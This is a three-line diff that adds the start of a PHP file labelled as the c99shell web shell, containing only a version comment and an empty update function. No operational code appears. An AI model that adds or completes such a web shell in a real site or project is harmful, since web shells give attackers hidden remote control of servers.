@@ -1,0 +1,3 @@
+<?php
+// c99shell v. 1.0 pre-release build
+function c99sh_getupdate() {}
